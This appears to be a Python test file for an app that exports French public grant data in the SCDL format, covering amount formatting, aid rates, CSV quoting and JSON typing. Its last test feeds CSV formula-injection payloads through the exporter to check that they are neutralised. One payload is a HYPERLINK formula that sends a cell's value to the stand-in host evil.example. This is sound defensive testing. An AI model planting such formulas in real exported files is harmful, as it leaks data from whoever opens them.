"""SCDL « subventions » 2.1.1 formatting (DOMAIN.md §5), pure functions in tables."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from decimal import Decimal

import pytest

from app.opendata import rules
from app.opendata.rules import GrantFacts


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "0.00"), (5, "0.05"), (100, "1.00"), (1_000_000, "10000.00"), (123_456_789, "1234567.89"),
     (-5, "-0.05"), (-123_456, "-1234.56")],
)  # fmt: skip
def test_euros_with_two_decimals_and_a_point(cents: int, text: str) -> None:
    assert rules.euros_text(cents) == text


@pytest.mark.parametrize(
    ("dues", "text"),
    [
        ([], "2021-03-15"),  # no schedule: `autre`, the convention's day
        ([date(2021, 4, 1)], "2021-04-01"),
        ([date(2021, 9, 30), date(2021, 3, 20)], "2021-03-20/2021-09-30"),
        ([date(2021, 3, 20), date(2021, 3, 20)], "2021-03-20/2021-03-20"),
    ],
)
def test_payment_period(dues: list[date], text: str) -> None:
    assert rules.payment_period(rules.Schedule.of(dues), date(2021, 3, 15)) == text


@pytest.mark.parametrize(
    ("amount", "eligible", "rate"),
    [(1_000_000, 2_000_000, Decimal("0.5000")), (800_000, 1_700_000, Decimal("0.4706")),
     (1, 3, Decimal("0.3333")), (2, 3, Decimal("0.6667")), (100, 0, None),
     # R-PAY-4: never above 1.00 (a grant above an eligible cost frozen lower)
     (1_000_000, 1_000_000, Decimal("1.0000")), (1_000_000, 950_000, Decimal("1.0000")),
     (1, 32, Decimal("0.0313")),  # 0.03125: half-up, never to the even 0.0312
     (3, 32, Decimal("0.0938")),  # 0.09375
     (1, 1, Decimal("1.0000"))],  # an eligible cost of one cent is one
)  # fmt: skip
def test_aid_rate(amount: int, eligible: int, rate: Decimal | None) -> None:
    assert rules.aid_rate(amount, eligible) == rate


def test_objet_is_at_most_256_characters() -> None:
    assert rules.clip_objet("  Un   titre ") == "Un titre"
    clipped = rules.clip_objet("x" * 300)
    assert len(clipped) == 256 and clipped.endswith("…")
    assert rules.clip_objet("y" * 256) == "y" * 256  # exactly 256: whole
    assert rules.clip_objet("y" * 257) == "y" * 255 + "…"


FACTS = GrantFacts(
    prefecture_name="Préfecture, « 13 »",
    prefecture_siret="13002526500013",
    convention_signed_on=date(2021, 3, 15),
    decision_reference=None,
    beneficiary_name="Commune d'Alleins",
    beneficiary_siret="21130003300017",
    title='Projet "A", B',
    amount_cents=800_050,
    schedule=rules.Schedule.of([date(2021, 10, 1)]),
    strand="3b",
    eligible_cost_cents=1_600_100,
)


def test_csv_line_quotes_commas_and_quotes() -> None:
    line = rules.csv_text([rules.csv_line(FACTS)])
    assert line.startswith('"Préfecture, « 13 »",13002526500013,2021-03-15,,')
    assert '"Projet ""A"", B",8000.50,aide en numéraire,unique,2021-10-01,,non,1.00,' in line
    assert line.endswith("\r\n")
    assert rules.csv_header().rstrip().split(",") == list(rules.SCDL_FIELDS)


def test_scdl_row_fields_given_and_left_empty() -> None:
    row = rules.scdl_row(replace(FACTS, decision_reference="Comité 13 du 2021-03-01"))
    assert row["referenceDecision"] == "Comité 13 du 2021-03-01"
    assert row["montant"] == "8000.50"
    # not given by the service: empty, never a placeholder
    assert [row[name] for name in ("rnaBeneficiaire", "idRAE", "dispositifAide")] == [""] * 3
    # a convention without a schedule (`autre`) states the day it was signed
    unscheduled = rules.scdl_row(replace(FACTS, schedule=rules.Schedule.of([])))
    assert unscheduled["datesPeriodeVersement"] == "2021-03-15"


def test_json_record_without_eligible_cost_has_a_null_rate() -> None:
    record = json.loads(rules.json_record(replace(FACTS, eligible_cost_cents=0)))
    assert record["tauxAide"] is None


def test_json_record_is_typed() -> None:
    text = rules.json_record(FACTS)
    assert "Préfecture, « 13 »" in text  # UTF-8 as the CSV, not \u escapes
    record = json.loads(text)
    assert list(record) == [*rules.SCDL_FIELDS, *rules.JSON_EXTRA_FIELDS]
    assert record["nomBeneficiaire"] == "Commune d'Alleins"
    assert record["datesPeriodeVersement"] == "2021-10-01"
    assert record["montant"] == 8000.50
    assert record["pourcentageSubvention"] == 1.0
    assert record["notificationUE"] is False
    assert record["referenceDecision"] is None
    assert record["tauxAide"] == 0.5
    assert record["volet"] == "3b"


@pytest.mark.parametrize(
    ("title", "objet"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"clic")', "'=HYPERLINK"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'=1+1"),  # the tab is trimmed by the clip: the `=` left is still caught
        ("\r\n-2+3", "'-2+3"),
        ("=" + "x" * 300, "'=" + "x" * 253 + "…"),  # the quote fits in the 256 characters
    ],
)
def test_csv_objet_never_starts_a_formula(title: str, objet: str) -> None:
    """DOMAIN.md §5: a text cell starting with =, +, -, @, tab or CR gets a leading `'`;
    numbers stay numbers; the JSON keeps the raw text."""
    facts = GrantFacts(**{**FACTS.__dict__, "title": title, "amount_cents": -150})
    (row,) = csv.reader(io.StringIO(rules.csv_text([rules.csv_line(facts)])))
    cells = dict(zip(rules.SCDL_FIELDS, row, strict=True))
    assert cells["objet"].startswith(objet)
    assert len(cells["objet"]) <= rules.OBJET_MAX
    assert cells["montant"] == "-1.50"  # a number, not text: never quoted
    assert json.loads(rules.json_record(facts))["objet"] == rules.clip_objet(title)
